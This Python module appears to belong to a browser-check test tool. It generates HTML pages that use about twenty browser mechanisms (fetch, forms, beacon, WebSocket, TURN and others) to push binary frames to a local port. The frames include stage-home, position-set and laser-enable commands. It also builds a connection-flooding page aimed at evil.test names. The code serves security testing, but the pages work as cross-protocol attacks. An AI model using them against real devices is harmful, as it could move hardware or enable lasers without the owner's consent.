"""The ways in which a web page sends bytes to a port, for scripts/check-browser: a page for each way.
The browsers themselves are in browsers.py.
"""

import json
import struct

HOME, HALT, POSITION_SET, POSITION_GET, LASER_ENABLE = 0x6002, 0x6003, 0x6004, 0x6008, 0x2003
STATE_GET, STATE_IDLE = 0xA007, 0xA002
DANGEROUS = {HOME: "STAGE_HOME", POSITION_SET: "STAGE_POSITION_SET", LASER_ENABLE: "LASER_ENABLE"}
ANSWERED = 0x80000000
START, END = 0xF321E654, 0xFEDC4321
FRAME = struct.Struct("<IIiiiiiiiIdI72sI")


def frame(code, axis=1, value=0.0, status=0, hardware=0):
    """A frame of 128 bytes, of which none is a line feed: a form would change that."""
    return FRAME.pack(START, code, status, hardware, 0, 0, axis, 0, 0, ANSWERED, value, 0, b"", END)


def frames(number):
    """One frame of each kind that moves or lights up, and a query. `number` says who sent them."""
    each = [(HOME, 1, 0.0), (POSITION_SET, 1, 8.0), (LASER_ENABLE, 2, 0.0), (POSITION_GET, 1, 0.0)]
    return b"".join(frame(code, selector, value, hardware=number) for code, selector, value in each)


# Each method gets `base`, such as "http://127.0.0.1:53717/fetch", `at`, such as "127.0.0.1:53717", and
# the frames as bytes and as text with one character for each byte.
METHODS = {
    "fetch": "fetch(base, {method: 'POST', mode: 'no-cors', body: bytes})",
    "fetch-text": """fetch(base, {method: 'POST', mode: 'no-cors', body: new Blob([bytes], {type: 'text/plain'}),
        credentials: 'include'})""",
    "keepalive": "fetch(base, {method: 'POST', mode: 'no-cors', keepalive: true, body: bytes})",
    "xhr": "let x = new XMLHttpRequest(); x.open('POST', base); x.send(new Blob([bytes]))",
    "beacon": "navigator.sendBeacon(base, new Blob([bytes]))",
    "form-text": "form('text/plain', inFrame())",
    "form-urlencoded": "form('application/x-www-form-urlencoded', inFrame())",
    "form-multipart": "form('multipart/form-data', inFrame())",
    "form-file": "file(inFrame())",
    "form-top": "form('text/plain', '_self')",
    "form-top-file": "file('_self')",
    "get": "fetch(base, {mode: 'no-cors'})",
    "websocket": "let w = new WebSocket('ws://' + at); w.onopen = () => w.send(bytes)",
    "eventsource": "new EventSource(base)",
    "image": "element('img', {src: base})",
    "script": "element('script', {src: base})",
    "prefetch": "element('link', {rel: 'prefetch', href: base})",
    "preconnect": "element('link', {rel: 'preconnect', href: base})",
    "tls": "fetch('https://' + at, {mode: 'no-cors'})",
    "turn": """let p = new RTCPeerConnection({iceTransportPolicy: 'relay',
        iceServers: [{urls: 'turn:' + at + '?transport=tcp', username: text.slice(0, 128), credential: 'a'}]});
        p.createDataChannel('a'); p.createOffer().then(o => p.setLocalDescription(o))""",
}
# These leave their page, so each target needs a page of its own.
LEAVE = {"form-top", "form-top-file"}
# These send no bytes. An image port cannot know them from a viewer.
SILENT = {"preconnect"}
# The bytes of these contain the frames as they are.
CARRIERS = {"fetch", "fetch-text", "keepalive", "xhr", "beacon", "form-text", "form-multipart", "form-file",
            "form-top", "form-top-file"}

PAGE = """<!DOCTYPE html><html><head><meta charset="windows-1252"><title>%(method)s</title></head><body><script>
const bytes = new Uint8Array(%(bytes)s);
const text = new TextDecoder('windows-1252').decode(bytes);
function element(name, values) {
    document.body.appendChild(Object.assign(document.createElement(name), values));
}
let inner = 0;
function inFrame() {
    inner += 1;
    element('iframe', {name: 'frame' + inner});
    return 'frame' + inner;
}
function newForm(base, kind, target) {
    const form = document.createElement('form');
    Object.assign(form, {action: base, method: 'POST', enctype: kind, target: target, acceptCharset: 'windows-1252'});
    document.body.appendChild(form);
    return form;
}
function sendForm(base, kind, target) {
    const form = newForm(base, kind, target);
    const input = document.createElement('textarea');
    Object.assign(input, {name: 'a', value: text});
    form.appendChild(input);
    form.submit();
}
function sendFile(base, target) {
    const form = newForm(base, 'multipart/form-data', target);
    const input = document.createElement('input');
    const files = new DataTransfer();
    files.items.add(new File([bytes], 'a'));
    Object.assign(input, {name: 'a', type: 'file'});
    input.files = files.files;
    form.appendChild(input);
    form.submit();
}
function attack(at) {
    const base = 'http://' + at + '/%(method)s';
    const form = (kind, target) => sendForm(base, kind, target);
    const file = target => sendFile(base, target);
    %(code)s;
}
for (const at of %(targets)s) {
    try { attack(at); } catch (error) { console.log(error); }
}
</script></body></html>"""

# Reads `url` again and again until somebody answers, and reports the status and the text.
READER = """<!DOCTYPE html><html><body><script>
async function read() {
    for (let attempt = 0; attempt < 12; attempt += 1) {
        await new Promise(done => setTimeout(done, 100));
        try {
            const answer = await fetch(%(url)s, {cache: 'no-store'});
            return answer.status + ' ' + await answer.text();
        } catch (error) { }
    }
    return '0 nothing';
}
read().then(found => fetch(%(report)s, {method: 'POST', mode: 'no-cors', body: found}));
</script></body></html>"""

# Opens %(names)s connections for each name, which a server that waits for more bytes holds open.
CROWD = """<!DOCTYPE html><html><body><script>
for (let name = 1; name <= %(names)s; name += 1) {
    for (let nth = 0; nth < 6; nth += 1) {
        fetch('http://name' + name + '.evil.test:%(port)s/' + nth, {mode: 'no-cors'}).catch(() => {});
    }
}
</script></body></html>"""


def page(method, targets, number=0):
    fields = {"method": method, "bytes": json.dumps(list(frames(number))), "targets": json.dumps(targets),
              "code": METHODS[method]}
    return (PAGE % fields).encode()


def reader(url, report):
    return (READER % {"url": json.dumps(url), "report": json.dumps(report)}).encode()


def crowd(names, port):
    return (CROWD % {"names": names, "port": port}).encode()


def frames_in(data):
    """The frames that a reader finds which skips everything else."""
    found, at = [], data.find(struct.pack("<I", START))
    while at >= 0:
        if data[at + 124:at + 128] == struct.pack("<I", END):
            found.append(data[at:at + 128])
        at = data.find(struct.pack("<I", START), at + 1)
    return found


def fields(data):
    """The code, the status and the hardware ID of a frame."""
    return FRAME.unpack(data)[1:4]
